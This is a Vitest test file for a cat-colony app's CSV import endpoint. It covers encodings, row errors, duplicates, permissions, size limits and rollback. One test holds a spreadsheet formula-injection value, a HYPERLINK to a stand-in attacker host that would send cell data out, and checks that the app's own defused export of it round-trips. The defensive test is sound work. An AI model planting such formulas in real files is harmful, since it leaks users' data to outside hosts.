import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, expect, it } from 'vitest';
import { sql } from 'kysely';
import { describeEachEngine, json } from '../helper';
import { createColonia, createGato } from '../fixtures';
import { PDF_BYTES, multipart, pngBytes, validCode } from './support';
import { IMPORT_COLONY } from '../../../src/domain/gatos';
import { csvLine } from '../../../src/domain/csv';

const CLINIC = [
  'Clínica Veterinaria San Antón;;;;;',
  'Listado de pacientes felinos;;;;;',
  'Fecha de exportación: 29/03/2025;;;;;',
  'Nombre;Raza;Sexo;Fe.Vacunación;Fe.Desparasitación;Código de identificación',
  `Canela;Común europeo;Hembra;15/01/2025;3/2/2025;${validCode(100)}`,
  `Trufa;;M;;;${validCode(101)}`,
  'Sin código;Siamés;Macho;;;',
].join('\r\n');

describeEachEngine('gatos: CSV import', (t) => {
  let colonia: { id: number; ubicacion: string };

  const importFile = (content: string | Buffer, fields: Record<string, string | number> = {}, as: 'admin' | 'responsable' | 'voluntario' | 'veterinario' | 'usuario' = 'admin', filename = 'gatos.csv') =>
    t().request({
      method: 'POST',
      url: '/api/gatos/gatos/importar-csv',
      as,
      ...multipart(fields, { filename, contentType: 'text/csv', bytes: Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8') }),
    });
  const byCode = (codigo: string) => t().db.selectFrom('gatos').selectAll().where('codigo_identificacion', '=', codigo).executeTakeFirst();

  beforeAll(async () => {
    colonia = await createColonia(t().db, { nombre: 'Colonia del Molino', ubicacion: 'Camino del Molino' });
  });

  it('imports the clinic export into the automatic colony: preamble, ";", day-first dates, sex words', async () => {
    const res = await importFile(CLINIC);
    expect(res.statusCode).toBe(200);
    expect(json(res)).toEqual({ detalle: '3 gatos importados correctamente', omitidos: 0, errores: [] });
    const canela = await byCode(validCode(100));
    expect(canela).toMatchObject({ nombre: 'Canela', raza: 'Común europeo', sexo: 'H', fecha_vacunacion: '2025-01-15', fecha_desparasitacion: '2025-02-03', imagen: null, activo: 1 });
    const auto = await t().db.selectFrom('colonias').selectAll().where('nombre', '=', IMPORT_COLONY.nombre).execute();
    expect(auto).toHaveLength(1);
    expect(canela!.colonia_id).toBe(auto[0].id);
    expect(canela!.ubicacion).toBe(IMPORT_COLONY.ubicacion);
    expect((await byCode(validCode(101)))!.sexo).toBe('M');
    const audit = await t().db.selectFrom('audit_log').selectAll().where('accion', '=', 'importar').execute();
    expect(audit.length).toBe(1);
    expect(audit[0].detalle).toContain('3 importados');
  });

  it('reads back the texts our own export defused: a name exported as \'=HYPERLINK(...) is imported as it was typed', async () => {
    const nombre = '=HYPERLINK("http://atacante.example/?d="&A2,"Ver ficha")';
    const csv = [csvLine(['nombre', 'sexo', 'raza', 'codigo_identificacion'], ','), csvLine([nombre, 'H', "'ya con comilla", validCode(150)], ',')].join('\r\n');
    expect(csv).toContain(`"'=HYPERLINK(`);
    const res = await importFile(csv, { colonia_id: colonia.id });
    expect(json(res).detalle).toBe('1 gatos importados correctamente');
    expect(await byCode(validCode(150))).toMatchObject({ nombre, raza: "'ya con comilla" });
  });

  it('skips rows whose code already exists, and a code repeated in the same file', async () => {
    await createGato(t().db, colonia.id, { codigo_identificacion: validCode(200) });
    const csv = ['nombre,sexo,codigo_identificacion', `Repetido,H,${validCode(200)}`, `Nuevo,M,${validCode(201)}`, `Doble,M,${validCode(201)}`].join('\n');
    const res = await importFile(csv, { colonia_id: colonia.id });
    expect(json(res)).toEqual({ detalle: '1 gatos importados correctamente', omitidos: 2, errores: [] });
    expect((await byCode(validCode(201)))!.nombre).toBe('Nuevo');
  });

  it('imports a plain CSV of our own field names into the chosen colony, blank cells and all', async () => {
    const csv = [
      'nombre,raza,sexo,edad_num,edad_unidad,estado_salud,ubicacion,colonia_id,evaluacion_sanitaria,adoptabilidad,fecha_vacunacion,tipo_vacuna,fecha_desparasitacion,fecha_esterilizacion,codigo_identificacion',
      `Luna,,H,2,años,Bueno,,,,,2025-01-05,Trivalente,,,${validCode(300)}`,
      `Sol,Persa,M,,,,"Patio, 3",,"Sana, sin incidencias",Alta,,,,10/02/2025,${validCode(301)}`,
      `Estrella,,H`,
    ].join('\n');
    const res = await importFile(csv, { colonia_id: String(colonia.id) });
    expect(res.statusCode).toBe(200);
    expect(json(res)).toEqual({ detalle: '3 gatos importados correctamente', omitidos: 0, errores: [] });
    expect(await byCode(validCode(300))).toMatchObject({ nombre: 'Luna', edad_num: 2, edad_unidad: 'años', estado_salud: 'Bueno', colonia_id: colonia.id, ubicacion: 'Camino del Molino', raza: null, tipo_vacuna: 'Trivalente' });
    expect(await byCode(validCode(301))).toMatchObject({ nombre: 'Sol', edad_num: null, edad_unidad: 'meses', ubicacion: 'Patio, 3', evaluacion_sanitaria: 'Sana, sin incidencias', fecha_esterilizacion: '2025-02-10' });
    const estrella = await t().db.selectFrom('gatos').selectAll().where('nombre', '=', 'Estrella').executeTakeFirstOrThrow();
    expect(estrella.colonia_id).toBe(colonia.id);
  });

  it('reports each broken row with its line and imports the rest', async () => {
    const csv = [
      'nombre;sexo;colonia_id;fecha_vacunacion;codigo_identificacion',
      `Bien;H;;;${validCode(400)}`,
      `;H;;;`,
      'Sinsexo;;;;',
      'Raro;Q;;;',
      'Fecha;M;;32/13/2025;',
      'Chip;M;;;123',
      'Colonia;M;999999;;',
      ';;;;',
      'También bien;M;;;',
    ].join('\n');
    const res = await importFile(csv, { colonia_id: colonia.id }, 'responsable');
    expect(res.statusCode).toBe(200);
    expect(json(res)).toEqual({
      detalle: '2 gatos importados correctamente',
      omitidos: 0,
      errores: [
        { fila: 3, motivo: 'El nombre es obligatorio' },
        { fila: 4, motivo: 'Selecciona el sexo' },
        { fila: 5, motivo: 'El sexo debe ser M (Macho) o H (Hembra).' },
        { fila: 6, motivo: 'La fecha de vacunación no es una fecha válida (use AAAA-MM-DD).' },
        { fila: 7, motivo: 'El código de identificación debe tener exactamente 15 dígitos' },
        { fila: 8, motivo: 'La colonia 999999 no existe.' },
      ],
    });
  });

  it('accepts a comma-separated clinic export in Windows-1252', async () => {
    const latin1 = Buffer.from(
      ['Clinica', 'Informe', '', `Nombre,Raza,Sexo,Fe.Vacunación,Fe.Desparasitación,Código de identificación`, `Ñoño,Común,Hembra,01/03/2025,,${validCode(500)}`].join('\n'),
      'latin1',
    );
    const res = await importFile(latin1, { colonia_id: colonia.id });
    expect(json(res).detalle).toBe('1 gatos importados correctamente');
    expect(await byCode(validCode(500))).toMatchObject({ nombre: 'Ñoño', raza: 'Común', fecha_vacunacion: '2025-03-01' });
  });

  it('imports both examples of docs/FUNCIONALIDADES.md as they are written', async () => {
    const guide = fs.readFileSync(path.join(process.cwd(), 'docs', 'FUNCIONALIDADES.md'), 'utf8');
    const section = guide.slice(guide.indexOf('### Importar gatos desde CSV'));
    const examples = [...section.matchAll(/```text\n([\s\S]*?)```/g)].slice(0, 2).map((m) => m[1].replace(/^ {3}/gm, ''));
    expect(examples).toHaveLength(2);
    // The plain example names colony 2.
    while (Number((await t().db.selectFrom('colonias').select((eb) => eb.fn.max('id').as('m')).executeTakeFirstOrThrow()).m) < 2) await createColonia(t().db);
    for (const example of examples) {
      const lines = example.trim().split('\n').length;
      const res = await importFile(example);
      expect(res.statusCode).toBe(200);
      expect(json(res)).toMatchObject({ omitidos: 0, errores: [] });
      expect(json(res).detalle).toBe(`${lines - (example.startsWith('nombre') ? 1 : 4)} gatos importados correctamente`);
    }
    expect(await byCode('724098100005678')).toMatchObject({ nombre: 'Luna', colonia_id: 2, ubicacion: 'Plaza Mayor, 3', edad_unidad: 'años', fecha_esterilizacion: '2025-02-10' });
    expect(await byCode('724098100001234')).toMatchObject({ nombre: 'Canela', sexo: 'H', fecha_desparasitacion: '2025-02-03' });
  });

  it('refuses a file that is not a CSV, one without a header, an empty one and a missing file', async () => {
    const before = (await t().db.selectFrom('gatos').select('id').execute()).length;
    const pdf = await importFile(PDF_BYTES, {}, 'admin', 'gatos.csv');
    expect(pdf.statusCode).toBe(422);
    expect(json(pdf).detail).toBe('El archivo no es un CSV de texto. Exporta la hoja como CSV (separado por comas o punto y coma).');
    const png = await importFile(pngBytes(), {}, 'admin', 'foto.png');
    expect(png.statusCode).toBe(422);
    const noHeader = await importFile('hola,mundo\n1,2\n');
    expect(noHeader.statusCode).toBe(422);
    expect(json(noHeader).detail).toBe('El archivo CSV no tiene una cabecera reconocible: falta la columna «nombre».');
    const empty = await importFile('nombre,sexo\n');
    expect(json(empty).detail).toBe('El archivo CSV no contiene ningún gato.');
    const missing = await t().request({ method: 'POST', url: '/api/gatos/gatos/importar-csv', as: 'admin', ...multipart({ colonia_id: colonia.id }) });
    expect(missing.statusCode).toBe(422);
    expect(json(missing).detail).toBe('Por favor selecciona un archivo CSV.');
    const badColony = await importFile('nombre,sexo\nA,H\n', { colonia_id: 'abc' });
    expect(json(badColony).detail).toBe('La colonia seleccionada no existe.');
    expect((await t().db.selectFrom('gatos').select('id').execute()).length).toBe(before);
  });

  it('refuses files over 5 MB with 413', async () => {
    const big = `nombre,sexo\n${'Gato,H\n'.repeat(800_000)}`;
    expect(Buffer.byteLength(big)).toBeGreaterThan(5 * 1024 * 1024);
    const res = await importFile(big);
    expect(res.statusCode).toBe(413);
    expect(json(res).detail).toBe('El archivo CSV supera el tamaño máximo de 5 MB.');
  });

  it('answers 403 with a Spanish detail to roles without the import capability', async () => {
    for (const role of ['voluntario', 'veterinario', 'usuario'] as const) {
      const res = await importFile('nombre,sexo\nA,H\n', { colonia_id: colonia.id }, role);
      expect(res.statusCode, role).toBe(403);
      expect(json(res).detail).toBe('No tienes permisos para realizar esta acción.');
    }
  });

  it('rejects an over-long cell as a row error and imports the other rows', async () => {
    const before = (await t().db.selectFrom('gatos').select('id').execute()).length;
    const rows = Array.from({ length: 450 }, (_, i) => `Gato ${i},H,${i === 449 ? 'x'.repeat(5000) : ''}`);
    const res = await importFile(`nombre,sexo,raza\n${rows.join('\n')}`, { colonia_id: colonia.id });
    expect(json(res).detalle).toBe('449 gatos importados correctamente');
    expect(json(res).errores).toEqual([{ fila: 451, motivo: 'El campo «raza» no puede superar 100 caracteres.' }]);
    expect((await t().db.selectFrom('gatos').select('id').execute()).length).toBe(before + 449);
  });

  it('a file of several thousand rows keeps every rule across the whole file, not only within a stretch of it', async () => {
    const gatos = (await t().db.selectFrom('gatos').select('id').execute()).length;
    const rows = Array.from({ length: 3500 }, (_, i) => {
      // The code of the fifth row comes back 3,000 rows later; row 2,600 names a colony that does not exist.
      if (i === 3004) return `Repetido,M,,${validCode(5004)}`;
      if (i === 2599) return `Perdido,H,999999,${validCode(5000 + i)}`;
      return `Gato ${i},H,,${validCode(5000 + i)}`;
    });
    const res = await importFile(`nombre,sexo,colonia_id,codigo_identificacion\n${rows.join('\n')}`, { colonia_id: colonia.id });
    expect(res.statusCode).toBe(200);
    expect(json(res)).toEqual({ detalle: '3498 gatos importados correctamente', omitidos: 1, errores: [{ fila: 2601, motivo: 'La colonia 999999 no existe.' }] });
    expect((await t().db.selectFrom('gatos').select('id').execute()).length).toBe(gatos + 3498);
    expect((await byCode(validCode(5004)))?.nombre).toBe('Gato 4');
    expect((await byCode(validCode(8499)))?.ubicacion).toBe('Camino del Molino');
  });

  it('keeps every accent of a long file intact, in UTF-8 with a BOM and in Windows-1252', async () => {
    // Several hundred kB: accented letters fall across every point where the file is read in pieces.
    const names = Array.from({ length: 4000 }, (_, i) => `Señorita Peñón ${i} Álvarez`);
    const csv = `nombre;sexo;raza\n${names.map((n, i) => `${n};H;${i % 3 ? 'Común' : 'Angora turco'}`).join('\n')}`;
    const utf8 = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csv, 'utf8')]);
    const latin = Buffer.from(csv, 'latin1');
    expect(utf8.length).toBeGreaterThan(128 * 1024);
    for (const [file, suffix] of [[utf8, 'utf8'], [latin, 'cp1252']] as const) {
      const otra = await createColonia(t().db, { nombre: `Colonia ${suffix}` });
      const res = await importFile(file, { colonia_id: otra.id });
      expect(json(res)).toEqual({ detalle: '4000 gatos importados correctamente', omitidos: 0, errores: [] });
      const rows = await t().db.selectFrom('gatos').select(['nombre', 'raza']).where('colonia_id', '=', otra.id).orderBy('id').execute();
      expect(rows.map((r) => r.nombre)).toEqual(names);
      expect(new Set(rows.map((r) => r.raza))).toEqual(new Set(['Común', 'Angora turco']));
    }
  });

  it('a file that breaks after thousands of good rows is refused whole, naming the line, and writes nothing', async () => {
    const gatos = (await t().db.selectFrom('gatos').select('id').execute()).length;
    const audits = (await t().db.selectFrom('audit_log').select('id').execute()).length;
    const rows = Array.from({ length: 3000 }, (_, i) => (i === 2800 ? 'Roto,"H" x"' : `Gato ${i},H`));
    const res = await importFile(`nombre,sexo\n${rows.join('\n')}`, { colonia_id: colonia.id });
    expect(res.statusCode).toBe(422);
    expect(json(res).detail).toBe('El archivo CSV no se puede leer (línea 2802): revisa las comillas y los separadores.');
    expect((await t().db.selectFrom('gatos').select('id').execute()).length).toBe(gatos);
    expect((await t().db.selectFrom('audit_log').select('id').execute()).length).toBe(audits);
  });

  it('writes nothing when the database fails half way through the file (one transaction)', async () => {
    const db = t().db;
    if (t().engine === 'sqlite') {
      await sql`CREATE TRIGGER explota BEFORE INSERT ON gatos WHEN NEW.nombre = 'Explota' BEGIN SELECT RAISE(ABORT, 'fallo simulado'); END`.execute(db);
    } else {
      await sql`CREATE FUNCTION explota() RETURNS trigger AS $$ BEGIN IF NEW.nombre = 'Explota' THEN RAISE EXCEPTION 'fallo simulado'; END IF; RETURN NEW; END $$ LANGUAGE plpgsql`.execute(db);
      await sql`CREATE TRIGGER explota BEFORE INSERT ON gatos FOR EACH ROW EXECUTE FUNCTION explota()`.execute(db);
    }
    try {
      const gatos = (await db.selectFrom('gatos').select('id').execute()).length;
      const audits = (await db.selectFrom('audit_log').select('id').execute()).length;
      const rows = Array.from({ length: 400 }, (_, i) => `${i === 350 ? 'Explota' : `Gato ${i}`},H`);
      const res = await importFile(`nombre,sexo\n${rows.join('\n')}`, { colonia_id: colonia.id });
      expect(res.statusCode).toBe(500);
      expect(json(res).detail).toBe('Error interno del servidor. Inténtalo de nuevo más tarde.');
      expect((await db.selectFrom('gatos').select('id').execute()).length).toBe(gatos);
      expect((await db.selectFrom('audit_log').select('id').execute()).length).toBe(audits);
    } finally {
      await sql`DROP TRIGGER explota${t().engine === 'postgres' ? sql` ON gatos` : sql``}`.execute(db);
      if (t().engine === 'postgres') await sql`DROP FUNCTION explota()`.execute(db);
    }
  });
});
